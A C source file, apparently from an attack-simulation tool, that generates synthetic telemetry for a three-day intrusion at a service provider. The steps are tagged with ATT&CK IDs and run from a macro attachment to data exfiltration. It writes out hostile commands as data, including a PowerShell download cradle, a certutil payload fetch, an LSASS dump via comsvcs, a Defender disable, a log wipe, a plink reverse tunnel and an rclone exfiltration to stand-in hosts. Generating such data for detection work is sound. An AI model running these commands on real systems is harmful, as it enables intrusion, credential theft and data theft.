/* SPDX-License-Identifier: Apache-2.0
 *
 * The first story at the provider: Monday a technician's workstation, Tuesday the jump host from which customers are
 * looked after, in the small hours of Wednesday what was taken leaves.
 *
 * In: the scene. Out: marked events in its world.
 */
#include "simulate/story_first.h"

#include "base/buf.h"

#define OUTLOOK "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
#define WORD    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
#define TOOL    "C:\\Users\\Public\\ctx.exe"
#define CRADLE  "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://update.cdn-kilo.example/a')"

/* The desk at the technician's workstation on a day of the story. */
static struct sp_desk *desk(const struct sp_scene *scene, unsigned day)
{
    size_t index = (size_t)((scene->day0 - scene->world->first) / SP_TICKS_DAY) + day;

    return &scene->tech->desk[index];
}

/* A script too long for one record: lines of digits, put together and run. */
static const char *long_script(struct sp_scene *scene)
{
    struct sp_world *world = scene->world;
    struct sp_buf text;
    struct sp_str kept;

    sp_buf_init(&text, 0);
    sp_buf_text(&text, "function Get-Part([string[]]$Line) { -join $Line }\r\n$part = @(\r\n");
    for (int i = 0; i < 300; i++) {
        sp_buf_text(&text, "    '");
        for (int k = 0; k < 4; k++)
            sp_buf_printf(&text, "%016llx", (unsigned long long)sp_random_u64(&world->random));
        sp_buf_text(&text, "'\r\n");
    }
    sp_buf_text(&text, ")\r\n$next = (New-Object Net.WebClient).DownloadString('http://update.cdn-kilo.example/b')\r\n"
                       "Invoke-Expression ($next -replace '@', (Get-Part $part))\r\n");
    kept = text.failed ? SP_STR_NONE : sp_arena_str(&world->arena, sp_buf_view(&text));
    sp_buf_done(&text);
    world->failed |= !kept.ptr;
    return kept.ptr ? kept.ptr : "";
}

/* Monday: the attachment, and what it brings. Returns the PowerShell that it ends in. */
static struct sp_process entry(struct sp_scene *scene)
{
    struct sp_world *world = scene->world;
    const struct sp_desk *today = desk(scene, 0);
    const char *encoded = sp_world_encoded(world, CRADLE);

    sp_scene_step(scene, "attachment opened", "T1204.002");
    struct sp_process word = sp_scene_run(scene, &today->mail, WORD,
                                          "\"" WORD "\" /n \"C:\\Users\\d.olsen\\AppData\\Local\\Microsoft\\Windows\\INetCache"
                                          "\\Content.Outlook\\8K2QX1\\offer-4471.docm\" /o \"\"");
    sp_scene_step(scene, "macro starts a shell", "T1059.003");
    struct sp_process shell = sp_scene_run(scene, &word, CMD,
                                           sp_world_text(world, "cmd.exe /c powershell -nop -w hidden -enc %s", encoded));
    sp_scene_step(scene, "encoded script", "T1059.001");
    struct sp_process ps = sp_scene_run(scene, &shell, PS, sp_world_text(world, "powershell  -nop -w hidden -enc %s", encoded));
    sp_act_script(world, scene->now, &ps, CRADLE, NULL);
    sp_scene_step(scene, "first contact", "T1071.001");
    sp_act_query(world, scene->now, &ps, "update.cdn-kilo.example", "::ffff:192.0.2.200");
    scene->now = sp_world_soon(world, scene->now, 400);
    sp_act_connect(world, scene->now, &ps, &(struct sp_peer){ "192.0.2.200", NULL, 80, "http" });
    sp_scene_step(scene, "longer script", "T1027");
    sp_act_script(world, scene->now, &ps, long_script(scene), NULL);
    sp_scene_step(scene, "tool fetched", "T1105");
    struct sp_process fetch = sp_scene_run(scene, &ps, S32 "certutil.exe",
                                           "certutil.exe -urlcache -split -f http://update.cdn-kilo.example/ctx.dat " TOOL);
    sp_act_connect(world, scene->now, &fetch, &(struct sp_peer){ "192.0.2.200", NULL, 80, "http" });
    scene->now = sp_world_soon(world, scene->now, 900);
    sp_act_file(world, scene->now, &fetch, TOOL);
    sp_act_end(world, scene->now + SP_TICKS_SECOND, &fetch);
    sp_act_end(world, scene->now + 130 * SP_TICKS_SECOND, &shell);
    sp_act_end(world, scene->now + 11 * SP_TICKS_MINUTE, &word);
    return ps;
}

/* Monday: to stay, and to look around. */
static void foothold(struct sp_scene *scene, const struct sp_process *ps)
{
    struct sp_world *world = scene->world;

    sp_scene_step(scene, "tool runs", "T1204.002");
    struct sp_process tool = sp_scene_run(scene, ps, TOOL, TOOL " -q");
    sp_act_end(world, scene->now + 2 * SP_TICKS_SECOND, ps);
    sp_scene_step(scene, "starts at every logon", "T1547.001");
    sp_act_value(world, scene->now, &tool,
                 sp_world_text(world, "HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ContextHelper", sp_cast.olsen.sid),
                 TOOL " -q");
    sp_scene_step(scene, "names as a channel", "T1071.004");
    for (unsigned i = 0; i < 3; i++) {
        uint64_t a = sp_random_u64(&world->random), b = sp_random_u64(&world->random);

        sp_act_query(world, scene->now, &tool,
                     sp_world_text(world, "%016llx%016llx%016llx.%03x.ns-kilo.example", (unsigned long long)a,
                                   (unsigned long long)b, (unsigned long long)(a ^ b * 31), i),
                     "type:  16 ok");
        sp_scene_wait(scene, 20);
    }
    sp_scene_step(scene, "who are the administrators", "T1069.002");
    sp_scene_once(scene, &tool, S32 "net.exe", "net.exe group \"Domain Admins\" /domain");
    sp_scene_step(scene, "directory written out", "T1087.002");
    sp_scene_once(scene, &tool, S32 "csvde.exe", "csvde.exe -f C:\\Users\\Public\\d.csv -r \"(objectCategory=computer)\"");
    sp_act_end(world, scene->day0 + 16 * SP_TICKS_HOUR + 50 * SP_TICKS_MINUTE, &tool);
}

/* Monday, as SYSTEM by now: defences down, passwords taken, the log emptied. */
static void take_workstation(struct sp_scene *scene)
{
    struct sp_world *world = scene->world;
    struct sp_host *host = scene->tech;
    struct sp_process services = sp_act_resident(world, host, &host->system, S32 "services.exe", S32 "services.exe");

    sp_scene_step(scene, "service as SYSTEM", "T1543.003");
    sp_act_service_new(world, scene->now, host, &sp_cast.olsen,
                       SP_PAIRS({ "ServiceName", "ctxsvc" }, { "ImagePath", TOOL " -s" }));
    struct sp_process tool = sp_scene_run(scene, &services, TOOL, TOOL " -s");
    sp_scene_step(scene, "protection off", "T1562.001");
    sp_act_value(world, scene->now, &tool,
                 "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
                 "DWORD (0x00000001)");
    scene->now = sp_world_soon(world, scene->now, 1500);
    sp_world_add(world, host, SP_DEF_OFF, scene->now, SP_PAIRS({ NULL, NULL }));
    sp_scene_step(scene, "passwords from memory", "T1003.001");
    struct sp_process dump = sp_scene_run(scene, &tool, S32 "rundll32.exe",
                                          "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 716 C:\\Users\\Public\\l.dmp full");
    struct sp_process lsass = sp_act_resident(world, host, &host->system, S32 "lsass.exe", S32 "lsass.exe");
    sp_act_access(world, scene->now, &dump, &lsass, "0x1fffff",
                  "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e|"
                  "C:\\Windows\\System32\\dbgcore.dll+ba6f|C:\\Windows\\System32\\comsvcs.dll+2d1f4");
    scene->now = sp_world_soon(world, scene->now, 700);
    sp_act_file(world, scene->now, &dump, "C:\\Users\\Public\\l.dmp");
    sp_act_end(world, scene->now + SP_TICKS_SECOND, &dump);
    sp_scene_step(scene, "log emptied", "T1070.001");
    sp_scene_once(scene, &tool, S32 "wevtutil.exe", "wevtutil.exe cl Security");
    sp_act_clear(world, scene->now, host, &host->system, "Security");
}

/* Tuesday: from the workstation to the jump host with the administrator's password. Returns the shell there. */
static struct sp_process move(struct sp_scene *scene)
{
    struct sp_world *world = scene->world;
    struct sp_host *jump = scene->jump;

    sp_scene_step(scene, "stolen password used", "T1078.002");
    sp_act_explicit(world, scene->now, &scene->tool, &sp_cast.lind, jump->fqdn);
    sp_act_connect(world, scene->now, &scene->tool, &(struct sp_peer){ jump->ip, jump->fqdn, 445, "microsoft-ds" });
    sp_scene_step(scene, "administrative share", "T1021.002");
    struct sp_logon logon = { &sp_cast.lind, 3, "NTLM", scene->tech->name, scene->tech->ip, "High" };
    const struct sp_session *session = sp_act_logon(world, &scene->now, jump, &logon);
    sp_act_share(world, scene->now, jump, session, "ADMIN$", scene->tech->ip);
    sp_act_share_file(world, scene->now + SP_TICKS_SECOND, jump, session,
                      &(struct sp_shared_file){ "ADMIN$", "Temp\\rmxsvc.exe", scene->tech->ip, true });
    sp_scene_step(scene, "service as a way in", "T1569.002");
    sp_act_service_new(world, scene->now, jump, &sp_cast.lind,
                       SP_PAIRS({ "ServiceName", "rmxsvc" }, { "ImagePath", "%SystemRoot%\\Temp\\rmxsvc.exe" }));
    struct sp_process services = sp_act_resident(world, jump, &jump->system, S32 "services.exe", S32 "services.exe");
    struct sp_process remote = sp_scene_run(scene, &services, "C:\\Windows\\Temp\\rmxsvc.exe", "C:\\Windows\\Temp\\rmxsvc.exe");
    sp_act_pipe(world, scene->now, &remote, "\\rmxsvc-NMSP-WS-03-5120-stdin");
    sp_scene_step(scene, "shell by WMI", "T1047");
    struct sp_process wmi = sp_act_resident(world, jump, &jump->network, S32 "wbem\\WmiPrvSE.exe",
                                            S32 "wbem\\wmiprvse.exe -secured -Embedding");
    return sp_act_start(world, &scene->now, &wmi, session, CMD,
                        "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1772524 2>&1");
}

/* Tuesday, at the jump host: where are the customers, how does one come back? */
static void prepare(struct sp_scene *scene, const struct sp_process *shell)
{
    struct sp_world *world = scene->world;
    struct sp_host *jump = scene->jump;

    sp_scene_step(scene, "customers' connections read", "T1552.001");
    sp_scene_once(scene, shell, S32 "findstr.exe", "findstr.exe /s /i /m password C:\\ProgramData\\North\\Connections\\*.rdg");
    sp_scene_step(scene, "task to come back", "T1053.005");
    sp_scene_once(scene, shell, S32 "schtasks.exe",
                  "schtasks.exe /create /ru SYSTEM /sc daily /st 01:30 /tn \"Disk check\" /tr C:\\Users\\Public\\chk.cmd");
    sp_act_task(world, scene->now, jump, shell->session, "\\Disk check", "C:\\Users\\Public\\chk.cmd");
    sp_scene_step(scene, "another administrator", "T1098");
    sp_scene_once(scene, shell, S32 "net.exe", "net.exe localgroup Administrators NORTHMSP\\d.olsen /add");
    sp_act_member(world, scene->now, jump, shell->session, sp_cast.olsen.sid, &sp_cast.administrators);
    sp_scene_step(scene, "tunnel for remote desktops", "T1572");
    scene->tunnel = sp_scene_run(scene, shell, "C:\\Users\\Public\\pl.exe",
                                 "pl.exe -ssh -N -R 33890:127.0.0.1:3389 relay@192.0.2.210 -pw x");
    sp_act_connect(world, scene->now, &scene->tunnel, &(struct sp_peer){ "192.0.2.210", NULL, 443, "https" });
    sp_act_end(world, scene->now + 4 * SP_TICKS_SECOND, shell);
}

void sp_first_provider(struct sp_scene *scene)
{
    struct sp_process ps, shell;

    sp_scene_at(scene, 0, 13, 12);
    ps = entry(scene);
    foothold(scene, &ps);
    sp_scene_at(scene, 0, 15, 40);
    take_workstation(scene);
    for (unsigned day = 2; day >= 1; day--) { /* Tuesday's is the one that goes on */
        scene->now = desk(scene, day)->since + SP_TICKS_MINUTE;
        sp_scene_step(scene, "back at every logon", "T1547.001");
        scene->tool = sp_scene_run(scene, &desk(scene, day)->explorer, TOOL, TOOL " -q");
        sp_act_end(scene->world, scene->day0 + day * SP_TICKS_DAY + 16 * SP_TICKS_HOUR + 50 * SP_TICKS_MINUTE, &scene->tool);
    }
    sp_scene_at(scene, 1, 9, 5);
    shell = move(scene);
    prepare(scene, &shell);
    sp_scene_at(scene, 1, 22, 30);
    sp_scene_step(scene, "desktop through the tunnel", "T1021.001");
    scene->jump_logon = (struct sp_logon){ &sp_cast.lind, 10, "Negotiate", scene->jump->name, "127.0.0.1", "High" };
    scene->jump_shell = sp_act_desktop(scene->world, &scene->now, scene->jump, &scene->jump_logon);
}

void sp_first_out(struct sp_scene *scene)
{
    struct sp_world *world = scene->world;

    sp_scene_at(scene, 2, 3, 40);
    sp_scene_step(scene, "archives leave", "T1567.002");
    struct sp_process copy = sp_scene_run(scene, &scene->jump_shell, "C:\\Users\\Public\\rcl.exe",
                                          "C:\\Users\\Public\\rcl.exe copy C:\\ProgramData\\media store:in --transfers 8 "
                                          "--config C:\\Users\\Public\\r.conf --no-check-certificate");
    sp_act_query(world, scene->now, &copy, "store.kilo-files.example", "::ffff:192.0.2.230");
    scene->now = sp_world_soon(world, scene->now, 500);
    sp_act_connect(world, scene->now, &copy, &(struct sp_peer){ "192.0.2.230", NULL, 443, "https" });
    scene->now += 11 * SP_TICKS_MINUTE;
    sp_act_end(world, scene->now, &copy);
    sp_scene_step(scene, "archives deleted", "T1070.004");
    struct sp_process shell = sp_scene_run(scene, &scene->jump_shell, CMD, "\"" CMD "\" /c del /q C:\\ProgramData\\media\\*.rar");
    for (unsigned i = 1; i <= 3; i++)
        sp_act_delete(world, scene->now + i * SP_TICKS_SECOND / 8, &shell,
                      sp_world_text(world, "C:\\ProgramData\\media\\%s.part%u.rar", i < 3 ? "q1" : "e1", i < 3 ? i : 1));
    sp_act_end(world, scene->now + SP_TICKS_SECOND, &shell);
    sp_scene_step(scene, "gone", "T1021.001");
    sp_act_desktop_left(world, scene->now, &scene->jump_shell, &scene->jump_logon);
    scene->now += 5 * SP_TICKS_SECOND;
    sp_act_end(world, scene->now, &scene->tunnel);
    sp_act_logoff(world, scene->now + SP_TICKS_SECOND, scene->jump, scene->tunnel.session, 3);
}
